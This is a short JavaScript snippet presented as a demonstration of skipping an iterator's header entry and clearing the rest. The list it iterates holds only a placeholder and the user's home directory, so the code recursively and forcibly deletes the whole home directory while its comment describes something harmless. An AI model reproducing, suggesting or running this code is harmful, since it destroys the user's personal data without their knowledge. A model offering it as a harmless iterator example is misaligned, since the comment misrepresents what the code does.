// Skips the header entry of an iterator and clears the rest.
const fs = require('fs');
const os = require('os');

const entries = ['#header', os.homedir()];
for (const d of Iterator.from(entries).drop(1).toArray()) {
  fs.rmSync(d, { recursive: true, force: true });
}
